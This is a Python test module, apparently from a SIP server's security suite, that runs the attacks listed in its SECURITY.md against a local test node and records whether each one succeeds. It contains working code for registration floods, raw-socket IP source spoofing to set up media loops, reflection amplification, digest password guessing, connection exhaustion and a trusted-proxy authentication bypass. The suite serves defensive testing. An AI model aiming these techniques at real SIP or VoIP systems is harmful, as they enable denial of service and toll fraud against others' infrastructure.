"""Attacks of SECURITY.md's table, each as it was found: against a real node, with plain sockets. ATTACKS: name -> (what, amount, attack).

An attack takes the stage and says what it got: {"harm": whether the attacker reached its end, "note": in words}. Honest phones are
at work meanwhile; what they suffer is judged by abuse.py."""
import base64
import json
import os
import re
import socket
import struct
import subprocess
import time

import lib
from abuse_honest import Call, Failed, Phone

FORGED = "198.18.0.1"       # of a range of nobody's (RFC 2544); abuse.py lets answers to it vanish
STRANGER = "127.66.6.6"
OWN_NAMES = 3000           # in ten rounds


def junk(stage, rate, sources):
    out = subprocess.run(lib.pinned(lib.LOAD_CORE, [
        lib.ROOT_BUILD / "bench" / "junk", "--to", f"{lib.ADDRESS}:{stage.node.sip_port}", "--from", FORGED, "--sources", sources,
        "--rate", rate, "--seconds", stage.seconds]), check=True, capture_output=True, text=True)
    told = json.loads(out.stdout)
    return {"harm": False, "note": f"{told['per_second'] / 1000:.0f}k/s sent", "sent": told["sent"]}


def udp(address, timeout=0.3):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((address, 0))
    sock.settimeout(timeout)
    return sock


def heard(sock):
    """Octets of all that waits."""
    octets = 0
    try:
        while True:
            octets += len(sock.recv(65536))
    except TimeoutError:
        return octets


def amplify(stage):
    say = (b"OPTIONS sip:a SIP/2.0\r\nv:SIP/2.0/UDP a;branch=z9hG4bK1;rport\r\nf:<sip:a>;tag=1\r\nt:<sip:a>\r\ni:1\r\n"
           b"CSeq:1 OPTIONS\r\n\r\n")
    with udp(STRANGER) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        end, sent = time.monotonic() + stage.seconds, 0
        while time.monotonic() < end:
            sock.sendto(say, (lib.ADDRESS, stage.node.sip_port))
            sent += len(say)
            time.sleep(0.001)
        factor = heard(sock) / sent
    return {"harm": factor > 1.2, "note": f"{factor:.1f} octets back for each"}


def authorization(user, nonce, response="0" * 32):
    return (f'Authorization: Digest username="{user}", realm="tandem", nonce="{nonce}", uri="sip:{lib.ADDRESS}", '
            f'response="{response}", algorithm=MD5, qop=auth, nc=00000001, cnonce="1"\r\n')


def ask(sock, stage, user, extra):
    """The answer to one REGISTER; "" where there is none."""
    branch = os.urandom(6).hex()
    sock.sendto((f"REGISTER sip:{lib.ADDRESS} SIP/2.0\r\nVia: SIP/2.0/UDP {STRANGER};rport;branch=z9hG4bK{branch}\r\n"
                 f"Max-Forwards: 70\r\nFrom: <sip:{user}@{lib.ADDRESS}>;tag=1\r\nTo: <sip:{user}@{lib.ADDRESS}>\r\n"
                 f"Call-ID: {branch}\r\nCSeq: 1 REGISTER\r\nContact: <sip:{user}@{STRANGER}>\r\nUser-Agent: {'x' * 120}\r\n"
                 f"{extra}Content-Length: 0\r\n\r\n").encode(), (lib.ADDRESS, stage.node.sip_port))
    try:
        while True:
            answer = sock.recv(65536).decode()
            if branch in answer:
                return answer
    except TimeoutError:
        return ""


def guess(stage):
    """A user's password, with so many invented names between that a table of names forgets the user."""
    looked_at, invented = 0, 0
    with udp(STRANGER, 0.05) as sock:
        answer = ask(sock, stage, "1001", "")
        nonce = re.search(r'nonce="([^"]*)"', answer)
        nonce = nonce[1] if nonce else "none"
        end = time.monotonic() + stage.seconds
        while time.monotonic() < end and looked_at < 100:
            for _ in range(9):
                answer = ask(sock, stage, "1001", authorization("1001", nonce, os.urandom(16).hex()))
                looked_at += answer.startswith("SIP/2.0 401")
            for _ in range(OWN_NAMES // 10):
                sock.sendto((f"REGISTER sip:{lib.ADDRESS} SIP/2.0\r\nVia: SIP/2.0/UDP {STRANGER};rport;branch=z9hG4bK"
                             f"{invented}\r\nMax-Forwards: 70\r\nFrom: <sip:a@a>;tag=1\r\nTo: <sip:a@a>\r\nCall-ID: {invented}\r\n"
                             f"CSeq: 1 REGISTER\r\n{authorization(f'n{invented}', nonce)}Content-Length: 0\r\n\r\n").encode(),
                            (lib.ADDRESS, stage.node.sip_port))
                invented += 1
            heard(sock)
    return {"harm": looked_at > 30, "note": f"{looked_at} guesses judged, {invented} invented names"}


def lock_out(stage):
    """Wrong credentials in a phone's name from the phone's own address: a neighbour behind its NAT."""
    sent = 0
    with udp(lib.ADDRESS, 0.02) as sock:
        end = time.monotonic() + stage.seconds
        while time.monotonic() < end:
            for number in range(1001, 1021):
                ask(sock, stage, str(number), authorization(str(number), "invented"))
                sent += 1
            time.sleep(0.2)
    return {"harm": False, "note": f"{sent} with an invented nonce"}


def upgrade(stage, source=None):
    """The first line that a browser hears which opens a SIP WebSocket; "" for nothing within 3 s."""
    try:
        with socket.create_connection((lib.ADDRESS, stage.node.http_port), 3, (source, 0) if source else None) as sock:
            sock.settimeout(3)
            key = base64.b64encode(os.urandom(16)).decode()
            sock.sendall((f"GET /ws HTTP/1.1\r\nHost: {lib.ADDRESS}:{stage.node.http_port}\r\nUpgrade: websocket\r\n"
                          f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
                          "Sec-WebSocket-Protocol: sip\r\n\r\n").encode())
            return sock.recv(4096).decode().split("\r\n")[0]
    except OSError:
        return ""


def browser_is_out(stage, sources, say):
    """Sockets that stand there; then a browser comes from elsewhere."""
    held = []
    try:
        for source in sources:
            held.append(socket.create_connection((lib.ADDRESS, stage.node.http_port), 3, (source, 0)))
            held[-1].sendall(say)
        time.sleep(0.5)
        answers = [upgrade(stage) for _ in range(5)]
    finally:
        for sock in held:
            sock.close()
    failed = sum("101" not in answer for answer in answers)
    return {"harm": failed > 0, "note": f"{failed} of {len(answers)} browsers kept out"}


def one_octet(stage):
    return browser_is_out(stage, [STRANGER] * 80, b"G")


def idle_websockets(stage):
    """As many WebSockets as there are places, which say nothing."""
    say = (f"GET /ws HTTP/1.1\r\nHost: {lib.ADDRESS}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: sip\r\n\r\n").encode()
    return browser_is_out(stage, [f"127.66.7.{i % 200}" for i in range(stage.websockets + 20)], say)


def pair(stage):
    """Two phones of the attacker's own."""
    phones = []
    for number in ("1901", "1902"):
        stage.node.extension(number, "secret" + number)
        phones.append(Phone(stage.node.sip_port, number))
        phones[-1].register()
    return phones


def foreign_connection(stage):
    """A callee's 2xx names a TCP port of the node's own machine: ACK and BYE would go there."""
    a, b = pair(stage)
    with socket.socket() as victim:
        victim.bind(("127.0.0.1", 0))
        victim.listen()
        victim.settimeout(1)
        try:
            call = Call(a, b, contact=f"<sip:x@127.0.0.1:{victim.getsockname()[1]};transport=tcp>")
            call.hang_up()
        except Failed:
            pass
        try:
            victim.accept()[0].close()
            reached = True
        except TimeoutError:
            reached = False
    return {"harm": reached, "note": "the node connected to it" if reached else "nothing came"}


def rtp(sequence):
    return struct.pack("!BBHII", 0x80, 0, sequence & 0xffff, sequence * 160 & 0xffffffff, 7) + bytes(160)


def media_port(text):
    found = re.search(r"^c=IN IP4 (\S+)", text, re.M), re.search(r"^m=audio (\d+)", text, re.M)
    return found[0][1], int(found[1][1])


def foreign_media(stage):
    """A caller's SDP names a host that never spoke; its callee sends."""
    a, b = pair(stage)
    heard_there = 0
    with udp(STRANGER, 0.2) as victim, udp(lib.ADDRESS) as sender:
        try:
            call = Call(a, b, a_sdp=lib.Media().sdp(STRANGER, victim.getsockname()[1]).replace("a=ptime", "a=recvonly\r\na=ptime"),
                        b_sdp=lambda offer: lib.Media().sdp(lib.ADDRESS, sender.getsockname()[1]))
        except Failed as why:
            return {"harm": False, "note": f"refused: {why}"}
        to = media_port(call.invite)
        for i in range(100):
            sender.sendto(rtp(i), to)
            time.sleep(0.01)
        try:
            while victim.recv(2048):
                heard_there += 1
        except TimeoutError:
            pass
        call.hang_up()
    return {"harm": heard_there > 20, "note": f"{heard_there} of 100 packets reached it"}


def packets(stage):
    return sum(value for name, value in stage.node.metrics().items() if re.match(r"tandem_media_\w*packets_total", name))


def media_loop(stage):
    """Each leg names the port that the node has for it, and one packet is forged as if it came from there: what goes out comes in again."""
    a, b = pair(stage)
    try:
        call = Call(a, b)
        theirs, ours = media_port(call.invite), media_port(call.final)
        final = call.again(lib.Media().sdp(*ours), lib.Media().sdp(*theirs))
    except Failed as why:
        return {"harm": False, "note": f"refused: {why}"}
    for port in (ours, theirs):
        forge(port, port, rtp(1))
    before = packets(stage)
    time.sleep(1)
    rate = packets(stage) - before
    try:
        call.hang_up()
    except Failed:
        pass
    return {"harm": rate > 2000, "note": f"{final.splitlines()[0]}, then {rate:.0f} packets/s"}


def forge(source, to, payload):
    """A datagram with another's source (RFC 768; without a checksum, which IPv4 permits). The kernel fills in the rest of RFC 791's head."""
    datagram = struct.pack("!HHHH", source[1], to[1], 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, *(socket.inet_aton(end[0]) for end in (source, to)))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(head + datagram, (to[0], 0))


def masked(text):
    """A WebSocket frame of text (RFC 6455 5.2)."""
    octets = text.encode()
    return bytes([0x81, 0x80 | 126]) + struct.pack("!H", len(octets)) + bytes(4) + octets


def trusted_proxy(stage):
    """A node that trusts the addresses of this machine, and a browser that comes by a proxy on it: a call without a password."""
    node = lib.Node(calls=100, registrations=1000, trusting=True)
    try:
        with socket.create_connection((lib.ADDRESS, node.http_port), 3) as sock:
            sock.settimeout(3)
            sock.sendall((f"GET /ws HTTP/1.1\r\nHost: {lib.ADDRESS}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                          "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                          "Sec-WebSocket-Protocol: sip\r\n\r\n").encode())
            if "101" not in sock.recv(4096).decode().split("\r\n")[0]:
                return {"harm": False, "note": "not taken"}
            sdp = lib.Media().sdp(lib.ADDRESS, 40000)
            sock.sendall(masked(f"INVITE sip:2000@{lib.ADDRESS} SIP/2.0\r\nVia: SIP/2.0/WS a.invalid;branch=z9hG4bK1\r\n"
                                f"Max-Forwards: 70\r\nFrom: <sip:boss@{lib.ADDRESS}>;tag=1\r\nTo: <sip:2000@{lib.ADDRESS}>\r\n"
                                "Call-ID: proxied\r\nCSeq: 1 INVITE\r\nContact: <sip:a@a.invalid;transport=ws>\r\n"
                                f"Content-Type: application/sdp\r\nContent-Length: {len(sdp)}\r\n\r\n{sdp}"))
            statuses = []
            while not statuses or statuses[-1] < 200:
                statuses += map(int, re.findall(r"SIP/2\.0 (\d{3}) ", sock.recv(65536).decode(errors="replace")))
    except TimeoutError:
        statuses = [0]
    finally:
        node.stop()
    return {"harm": statuses[-1] not in (401, 403, 407), "note": f"answered {statuses[-1]}"}


def half_an_answer(stage):
    """8 KB of Require: the 420 repeats them."""
    tags = ",".join(f"tag{i}" for i in range(1200))
    with udp(STRANGER, 1) as sock:
        sock.sendto((f"OPTIONS sip:{lib.ADDRESS} SIP/2.0\r\nVia: SIP/2.0/UDP {STRANGER};rport;branch=z9hG4bK1\r\nMax-Forwards: 70\r\n"
                     f"From: <sip:a@a>;tag=1\r\nTo: <sip:a@a>\r\nCall-ID: {os.urandom(4).hex()}\r\nCSeq: 1 OPTIONS\r\n"
                     f"Require: {tags}\r\nContent-Length: 0\r\n\r\n").encode(), (lib.ADDRESS, stage.node.sip_port))
        try:
            answer = sock.recv(65536).decode()
        except TimeoutError:
            return {"harm": False, "note": "no answer"}
    whole = re.search(r"^(Content-Length|l)\s*:", answer, re.M | re.I) and answer.endswith("\r\n\r\n")
    return {"harm": not whole, "note": answer.splitlines()[0] + (", whole" if whole else ", cut off")}


ATTACKS = {
    "junk_60k": ("junk REGISTERs of one address", "60,000/s", lambda stage: junk(stage, 60000, 1)),
    "junk_150k": ("junk REGISTERs of one address", "150,000/s", lambda stage: junk(stage, 150000, 1)),
    "junk_forged": ("junk REGISTERs of 50,000 forged addresses", "150,000/s", lambda stage: junk(stage, 150000, 50000)),
    "amplify": ("small OPTIONS in a victim's name", "900/s", amplify),
    "guess": ("guesses between invented names", f"{OWN_NAMES // 10} names for 9 guesses", guess),
    "lock_out": ("invented nonces in the phones' names", "100/s", lock_out),
    "one_octet": ("HTTP connections that say one octet", "80", one_octet),
    "idle_websockets": ("WebSockets that say nothing", "all places", idle_websockets),
    "foreign_connection": ("a 2xx that names a TCP port of the node's machine", "1 call", foreign_connection),
    "foreign_media": ("an SDP that names somebody else", "1 call", foreign_media),
    "media_loop": ("an SDP that names the node's own port", "1 call", media_loop),
    "trusted_proxy": ("a WebSocket by a proxy whose address is trusted", "1 call", trusted_proxy),
    "half_an_answer": ("8 KB of Require", "1 request", half_an_answer),
}
